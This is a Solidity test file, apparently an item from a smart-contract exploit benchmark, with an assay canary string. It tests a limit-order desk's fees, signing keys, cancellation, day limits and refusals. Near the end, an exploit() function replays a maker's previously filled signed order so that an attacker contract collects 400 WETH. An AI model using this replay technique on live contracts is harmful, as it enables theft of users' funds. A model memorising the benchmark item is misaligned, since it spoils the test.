// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-aecd7f6e-143a-45f2-a75d-27882d3b3550

import "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./LimitOrderDesk.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function prank(address who) external;
    function startPrank(address who) external;
    function stopPrank() external;
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
}

contract Weth is ERC20 {
    constructor() ERC20("Wrapped Ether", "WETH") {
        _mint(msg.sender, 10_000e18);
    }
}

contract Usdc is ERC20 {
    constructor() ERC20("USD Coin", "USDC") {
        _mint(msg.sender, 10_000_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

contract Taker {
    LimitOrderDesk internal desk;

    constructor(LimitOrderDesk desk_, ERC20 usdc) {
        desk = desk_;
        usdc.approve(address(desk_), type(uint256).max);
    }

    function take(OrderLib.Order calldata order, bytes calldata sig) external {
        desk.fill(order, sig, type(uint256).max);
    }
}

/// An account with dollars that reads filled orders from the chain.
contract Attacker is Taker {
    constructor(LimitOrderDesk desk_, ERC20 usdc) Taker(desk_, usdc) {}
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_772_000_000;
    uint256 private constant KEY = 0xA11CE;
    uint256 private constant HOT = 0xB0B;
    address private constant TREASURY = address(0x7EA5);
    address private constant BROKER = address(0xB40C);

    Weth public weth;
    Usdc public usdc;
    FeeSchedule public fees;
    TokenRegistry public registry;
    LimitOrderDesk public desk;
    Taker public dealer;
    Attacker public reader;
    address public maker;
    OrderLib.Order internal first;
    bytes internal firstSig;

    function setUp() public {
        vm.warp(START);
        weth = new Weth();
        usdc = new Usdc();
        fees = new FeeSchedule(TREASURY, 10);
        registry = new TokenRegistry();
        desk = new LimitOrderDesk(fees, registry);
        registry.listToken(address(weth), 1e18);
        registry.listToken(address(usdc), 100e6);
        maker = vm.addr(KEY);
        weth.transfer(maker, 1_000e18);
        vm.prank(maker);
        weth.approve(address(desk), type(uint256).max);
        dealer = new Taker(desk, usdc);
        usdc.transfer(address(dealer), 5_000_000e6);

        // 400 at 2000 each.
        first = _order(400e18, 800_000e6, START + 120 days);
        firstSig = _sign(KEY, first);
        dealer.take(first, firstSig);

        // Weeks later the price is another one, and the maker has bought 400 again.
        vm.warp(START + 40 days);
        weth.transfer(maker, 400e18);

        reader = new Attacker(desk, usdc);
        usdc.transfer(address(reader), 800_800e6);
    }

    function _order(uint128 sell, uint128 buy, uint256 expiry) internal view returns (OrderLib.Order memory) {
        return OrderLib.Order(
            maker, address(weth), address(usdc), sell, buy, uint64(expiry), desk.seriesOf(maker), address(0), address(0),
            desk.nonceOf(maker, address(weth))
        );
    }

    function _sign(uint256 key, OrderLib.Order memory order) internal returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, desk.digestOf(order));
        return abi.encodePacked(r, s, v);
    }

    function _next() internal view returns (OrderLib.Order memory) {
        return _order(100e18, 300_000e6, block.timestamp + 60 days);
    }

    function test_Regular() public {
        require(usdc.balanceOf(maker) == 800_000e6 && weth.balanceOf(address(dealer)) == 400e18, "first fill");
        require(usdc.balanceOf(TREASURY) == 800e6, "fee");

        // Of two orders with one nonce the first one trades.
        OrderLib.Order memory small = _order(10e18, 32_000e6, block.timestamp + 60 days);
        OrderLib.Order memory large = _order(600e18, 1_860_000e6, block.timestamp + 60 days);
        bytes memory a = _sign(KEY, small);
        bytes memory b = _sign(KEY, large);
        require(desk.isOpen(small, address(dealer)) && desk.isOpen(large, address(dealer)), "both open");
        require(desk.takerCost(small) == 32_032e6, "price and fee");
        dealer.take(small, a);
        require(!desk.isOpen(small, address(dealer)) && !desk.isOpen(large, address(dealer)), "both done");
        vm.expectRevert(abi.encodeWithSelector(LimitOrderDesk.BadNonce.selector, large.nonce));
        dealer.take(large, b);

        // Fees of the pair, rebate of the maker, share of the broker.
        fees.setPairFee(address(usdc), address(weth), true, 20);
        fees.setRebate(maker, 50);
        desk.setBroker(BROKER, 40);
        fees.setTreasury(address(0x7EA6));
        fees.setBaseFee(30);
        OrderLib.Order memory next = _next();
        next.broker = BROKER;
        next.taker = address(dealer);
        dealer.take(next, _sign(KEY, next));
        require(usdc.balanceOf(BROKER) == 120e6 && usdc.balanceOf(address(0x7EA6)) == 180e6, "300 shared");
        fees.setPairFee(address(usdc), address(weth), false, 0);
        require(fees.feeOn(maker, address(weth), address(usdc), 1_000e6) == 1.5e6, "base fee again");
        require(fees.feeOn(maker, address(weth), address(usdc), 1) == 1, "rounded up");

        // A trading key signs, and takes back.
        vm.prank(maker);
        desk.setSigner(vm.addr(HOT), true);
        next = _next();
        bytes memory c = _sign(HOT, next);
        vm.prank(address(dealer));
        require(desk.fill(next, c, 450e6) == 450e6, "signed by the key");
        (uint64 fills, uint64 last, uint128 sold) = desk.books(maker, address(weth));
        require(fills == 4 && last == block.timestamp && sold == 610e18, "books");
        next = _next();
        vm.prank(vm.addr(HOT));
        desk.cancel(next);
        require(!desk.isOpen(next, address(dealer)), "taken back");
        next = _order(101e18, 300_000e6, block.timestamp + 1 days);
        vm.startPrank(maker);
        desk.cancel(next);
        require(!desk.isOpen(next, address(dealer)), "taken back as well");
        next = _order(102e18, 300_000e6, block.timestamp + 1 days);
        desk.cancelAll();
        require(!desk.isOpen(next, address(dealer)), "all off");

        // A limit per day starts anew.
        desk.setDayLimit(address(weth), 360e18);
        vm.stopPrank();
        next = _next();
        dealer.take(next, _sign(KEY, next));
        require(desk.leftToday(maker, address(weth)) == 50e18, "50 left");
        require(!desk.isOpen(_next(), address(dealer)), "over the limit");
        vm.warp(block.timestamp + 1 days);
        next = _next();
        require(desk.isOpen(next, address(dealer)), "next day");
        dealer.take(next, _sign(KEY, next));
        require(desk.leftToday(maker, address(weth)) == 260e18 && desk.sellable(maker, weth) == 590e18, "left");

        // Owner.
        registry.setMinOrder(address(weth), 2e18);
        registry.haltToken(address(weth), true);
        require(!registry.isTradable(address(weth)) && registry.tokens().length == 2, "halted");
        registry.haltToken(address(weth), false);
        desk.pause();
        require(!desk.isOpen(_next(), address(dealer)), "paused");
        desk.unpause();
        weth.transfer(address(desk), 3e18);
        require(desk.sweep(weth) == 3e18 && weth.balanceOf(address(0x7EA6)) == 3e18, "swept");
        desk.transferOwnership(maker);
        vm.startPrank(maker);
        desk.acceptOwnership();
        desk.renounceOwnership();
        vm.stopPrank();
        require(desk.owner() == address(0), "no owner");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesStrangers() public {
        vm.startPrank(maker);
        vm.expectRevert("Ownable: caller is not the owner");
        fees.setTreasury(maker);
        vm.expectRevert("Ownable: caller is not the owner");
        fees.setBaseFee(0);
        vm.expectRevert("Ownable: caller is not the owner");
        fees.setPairFee(address(weth), address(usdc), true, 0);
        vm.expectRevert("Ownable: caller is not the owner");
        fees.setRebate(maker, 100);
        vm.expectRevert("Ownable: caller is not the owner");
        desk.setBroker(maker, 50);
        vm.expectRevert("Ownable: caller is not the owner");
        registry.listToken(address(desk), 0);
        vm.expectRevert("Ownable: caller is not the owner");
        registry.setMinOrder(address(weth), 0);
        vm.expectRevert("Ownable: caller is not the owner");
        registry.haltToken(address(weth), true);
        vm.expectRevert("Ownable: caller is not the owner");
        desk.pause();
        vm.expectRevert("Ownable: caller is not the owner");
        desk.sweep(weth);
        vm.stopPrank();
        desk.pause();
        vm.prank(maker);
        vm.expectRevert("Ownable: caller is not the owner");
        desk.unpause();
    }

    function test_RefusesSettings() public {
        vm.expectRevert("Fees: treasury");
        fees.setTreasury(address(0));
        vm.expectRevert("Fees: fee");
        fees.setBaseFee(51);
        vm.expectRevert("Fees: fee");
        fees.setPairFee(address(weth), address(usdc), true, 51);
        vm.expectRevert("Fees: percent");
        fees.setRebate(maker, 101);
        vm.expectRevert("Desk: broker");
        desk.setBroker(address(0), 1);
        vm.expectRevert("Desk: broker");
        desk.setBroker(BROKER, 51);
        vm.expectRevert("Registry: no code");
        registry.listToken(BROKER, 1);
        vm.expectRevert("Registry: listed");
        registry.listToken(address(weth), 1);
        vm.expectRevert("Registry: unknown");
        registry.setMinOrder(BROKER, 1);
        vm.expectRevert("Registry: unknown");
        registry.haltToken(BROKER, true);
        vm.startPrank(maker);
        vm.expectRevert("Desk: key");
        desk.setSigner(address(0), true);
        vm.expectRevert("Desk: key");
        desk.setSigner(maker, true);
        vm.stopPrank();
    }

    function test_RefusesTokens() public {
        OrderLib.Order memory next = _next();
        next.sellToken = address(desk);
        bytes memory sig = firstSig;
        vm.expectRevert(abi.encodeWithSelector(TokenRegistry.NotTradable.selector, address(desk)));
        dealer.take(next, sig);
        registry.haltToken(address(usdc), true);
        next = _next();
        vm.expectRevert(abi.encodeWithSelector(TokenRegistry.NotTradable.selector, address(usdc)));
        dealer.take(next, sig);
        registry.haltToken(address(usdc), false);
        next = _next();
        next.buyToken = address(weth);
        next.buyAmount = 1e18;
        vm.expectRevert("Desk: same token");
        dealer.take(next, sig);
        next = _next();
        next.sellAmount = 1e18 - 1;
        vm.expectRevert("Registry: too small");
        dealer.take(next, sig);
        registry.setMinOrder(address(usdc), 0);
        next = _next();
        next.buyAmount = 0;
        vm.expectRevert("Registry: too small");
        dealer.take(next, sig);
    }

    function test_RefusesTerms() public {
        bytes memory sig = firstSig;
        OrderLib.Order memory next = _next();
        next.taker = maker;
        vm.expectRevert("Desk: reserved");
        dealer.take(next, sig);
        next = _order(100e18, 300_000e6, block.timestamp - 1);
        vm.expectRevert(abi.encodeWithSelector(LimitOrderDesk.Expired.selector, block.timestamp - 1));
        dealer.take(next, sig);
        next = _order(100e18, 300_000e6, block.timestamp + 180 days + 1);
        vm.expectRevert("Desk: term");
        dealer.take(next, sig);
        next = _next();
        sig = _sign(KEY, next);
        usdc.transfer(maker, 1_000e6);
        vm.startPrank(maker);
        usdc.approve(address(desk), type(uint256).max);
        vm.expectRevert("Desk: own order");
        desk.fill(next, sig, type(uint256).max);
        desk.setDayLimit(address(weth), 100e18 - 1);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(LimitOrderDesk.OverDayLimit.selector, 100e18 - 1));
        dealer.take(next, sig);
        vm.prank(maker);
        desk.setDayLimit(address(weth), 100e18);
        vm.prank(address(dealer));
        vm.expectRevert(abi.encodeWithSelector(LimitOrderDesk.FeeTooHigh.selector, 300e6));
        desk.fill(next, sig, 300e6 - 1);
    }

    function test_RefusesSignatures() public {
        OrderLib.Order memory next = _next();
        bytes memory sig = _sign(HOT, next);
        vm.expectRevert(abi.encodeWithSelector(LimitOrderDesk.BadSignature.selector, vm.addr(HOT)));
        dealer.take(next, sig);
        vm.prank(maker);
        desk.setSigner(vm.addr(HOT), true);
        vm.prank(maker);
        desk.setSigner(vm.addr(HOT), false);
        vm.expectRevert(abi.encodeWithSelector(LimitOrderDesk.BadSignature.selector, vm.addr(HOT)));
        dealer.take(next, sig);
        sig = _sign(KEY, next);
        next.nonce += 1;
        vm.expectRevert(abi.encodeWithSelector(LimitOrderDesk.BadNonce.selector, next.nonce));
        dealer.take(next, sig);
        next.nonce -= 1;
        next.buyAmount -= 1;
        vm.expectRevert();
        dealer.take(next, sig);
    }

    function test_RefusesCancelled() public {
        OrderLib.Order memory next = _next();
        bytes memory sig = _sign(KEY, next);
        vm.expectRevert("Desk: not your order");
        desk.cancel(next);
        vm.prank(maker);
        desk.cancel(next);
        vm.expectRevert(abi.encodeWithSelector(LimitOrderDesk.Cancelled.selector, desk.digestOf(next)));
        dealer.take(next, sig);
        next.sellAmount -= 1;
        sig = _sign(KEY, next);
        vm.prank(maker);
        desk.cancelAll();
        vm.expectRevert(abi.encodeWithSelector(LimitOrderDesk.Cancelled.selector, desk.digestOf(next)));
        dealer.take(next, sig);
    }

    function test_RefusesPaused() public {
        OrderLib.Order memory next = _next();
        bytes memory sig = _sign(KEY, next);
        desk.pause();
        vm.expectRevert("Pausable: paused");
        dealer.take(next, sig);
    }

    function exploit() public {
        reader.take(first, firstSig);
    }

    function test_Exploit() public {
        uint256 before = weth.balanceOf(address(reader));
        exploit();
        require(weth.balanceOf(address(reader)) >= before + 400e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(reader);
    }
}
